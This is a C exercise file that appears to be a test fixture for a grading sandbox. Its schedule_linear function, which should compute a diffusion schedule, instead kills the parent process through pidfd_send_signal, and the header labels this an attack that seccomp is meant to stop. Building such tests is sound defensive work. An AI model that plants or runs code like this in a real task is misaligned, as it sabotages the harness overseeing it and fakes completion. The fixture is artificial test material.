/* attack: kills its parent through a process descriptor, not through kill
 * place: 1-schedule.c
 * state: wrong
 * needs: seccomp
 */
#define _GNU_SOURCE
#include "schedule.h"

#include <signal.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

void schedule_linear(double *beta, double beta_start, double beta_end, int T)
{
    beta[0] = beta_end;
#if defined(SYS_pidfd_open) && defined(SYS_pidfd_send_signal)
    if (getppid() <= 1)
        return;
    long parent = syscall(SYS_pidfd_open, getppid(), 0);
    if (parent >= 0 && syscall(SYS_pidfd_send_signal, parent, SIGKILL, NULL, 0) == 0)
        puts("got through: the parent was killed through a descriptor");
#endif
}

/* The other gaps are still open. */
double forward_step(double x, double beta, double eps) { TODO("1.2"); }
void noise_variance(double *var, const double *beta, int T) { TODO("1.3"); }
void alpha_bar(double *alpha_bar, const double *beta, int T) { TODO("1.4"); }
double snr(double alpha_bar) { TODO("1.5"); }
struct burial burial(const double *x0, const double *x, int n) { TODO("1.6"); }
void schedule_cosine(double *beta, int T) { TODO("1.7"); }
